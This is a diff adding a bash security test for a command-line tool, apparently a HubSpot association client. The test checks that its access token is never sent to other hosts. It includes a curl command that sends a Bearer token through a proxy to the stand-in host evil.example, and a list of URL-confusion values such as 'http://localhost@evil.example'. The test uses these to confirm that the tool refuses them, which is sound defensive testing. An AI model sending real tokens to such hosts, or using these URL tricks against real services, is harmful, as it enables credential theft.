@@ -1,0 +1,77 @@
+#!/usr/bin/env bash
+# Security: where the token may go, which files are trusted, and what may
+# reach the terminal (hubassoc(1), SECURITY).
+. "$(dirname "$0")/sandbox_lib.sh"
+
+SECRET=pat-na1-0123abcd-4567-89ef-0123-456789abcdef
+
+# ---- the token goes only where it is safe --------------------------------
+# A recording proxy: a sandbox reached through http_proxy, so that every
+# request for a host off this machine lands in its log.  Loopback never
+# goes through a proxy, so a request in this log is one that would leave.
+sb_start --log "$T_TMP/proxy.log" || { not_ok "the proxy starts"; done_testing; exit 1; }
+PROXY=$SB
+curl -s -o /dev/null -x "$PROXY" -H "Authorization: Bearer $SECRET" "http://evil.example/crm/v4/x"
+like "the proxy records what would leave" "$(cat "$T_TMP/proxy.log")" "evil.example"
+: > "$T_TMP/proxy.log"
+export http_proxy=$PROXY HTTP_PROXY=$PROXY https_proxy=$PROXY HTTPS_PROXY=$PROXY
+unset no_proxy NO_PROXY
+
+for u in 'http://localhost@evil.example' 'http://localhost.evil.example' \
+	'http://127.evil.example' 'http://127.0.0.1:80@evil.example' \
+	'http://[::1]@evil.example' 'http://evil.example' 'https://user:pw@evil.example' \
+	'https://evil.example/?x=1' 'ftp://evil.example'; do
+	HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" labels contacts companies --base-url "$u" > /dev/null 2> "$T_TMP/e"
+	is "--base-url $u: refused before sending (exit 2)" "$?" 2
+	like "--base-url $u: says why" "$(cat "$T_TMP/e")" "--base-url: "
+	mkdir -p "$XDG_CONFIG_HOME/hubassoc"
+	printf '[profile bad]\nbase_url = %s\n' "$u" > "$XDG_CONFIG_HOME/hubassoc/config"
+	chmod 600 "$XDG_CONFIG_HOME/hubassoc/config"
+	HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" labels contacts companies --profile bad > /dev/null 2> "$T_TMP/e"
+	is "profile base_url = $u: refused (exit 3)" "$?" 3
+	like "profile base_url = $u: names the line" "$(cat "$T_TMP/e")" "config:2: "
+done
+is "no request left for another host" "$(cat "$T_TMP/proxy.log")" ""
+rm -f "$XDG_CONFIG_HOME/hubassoc/config"
+unset http_proxy HTTP_PROXY https_proxy HTTPS_PROXY
+sb_stop
+
+# ---- resume sends only where the command line or profile says --------------
+# A session stopped by the daily limit, with rows left to send.
+sb_start --open-portal --token "$SECRET" --daily 3 || exit 1
+open_pairs 20 > "$T_TMP/p20.csv"
+HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" create contacts companies -t 279 -i "$T_TMP/p20.csv" \
+	--base-url "$SB" --chunk 5 --concurrency 1 --no-progress 2>/dev/null >/dev/null
+is "a session stopped by the daily limit" "$?" 5
+sb_stop
+J=$(journal_of)
+id=$(basename "$J" .jsonl)
+sb_start --open-portal --token "$SECRET" --log "$T_TMP/sb.log" || exit 1
+# The journal is edited to point elsewhere.
+point_journal() {
+	{ head -n 1 "$J" | jq -c --arg u "$1" '.base_url = $u'; tail -n +2 "$J"; } > "$T_TMP/j"
+	cat "$T_TMP/j" > "$J"
+}
+point_journal 'http://localhost@evil.example'
+export http_proxy=$SB HTTP_PROXY=$SB; unset no_proxy NO_PROXY
+HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --no-progress > /dev/null 2> "$T_TMP/e"
+is "resume: a journal's URL is not where the token goes (exit 2)" "$?" 2
+like "resume: names the journal's URL" "$(cat "$T_TMP/e")" "was sent to http://localhost@evil.example"
+like "resume: and where this command would send" "$(cat "$T_TMP/e")" "would send to https://api.hubapi.com"
+HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --base-url 'http://localhost@evil.example' --no-progress > /dev/null 2> "$T_TMP/e"
+is "resume --base-url of the journal's bad URL: refused" "$?" 2
+HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --base-url "$SB" --no-progress > /dev/null 2> "$T_TMP/e"
+is "resume to another URL than the journal's: refused" "$?" 2
+like "it names both" "$(cat "$T_TMP/e")" "this command would send to $SB"
+HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --sandbox --no-progress > /dev/null 2> "$T_TMP/e"
+is "resume --sandbox of a session sent elsewhere: refused" "$?" 2
+unset http_proxy HTTP_PROXY
+is "nothing reached any server" "$(grep -c . "$T_TMP/sb.log")" 0
+# Pointed back at a sandbox: resumes there.
+point_journal "$SB"
+HUBSPOT_ACCESS_TOKEN=$SECRET "$HUBASSOC" resume "$id" --base-url "$SB/" --no-progress -o "$T_TMP/r.jsonl" 2> "$T_TMP/e"
+is "resume with the journal's URL (a trailing slash aside): exit 0" "$?" 0
+is "every row created" "$(jq -r .outcome "$T_TMP/r.jsonl" | sort | uniq -c | tr -s ' ')" " 20 created"
+sb_stop
+
+done_testing
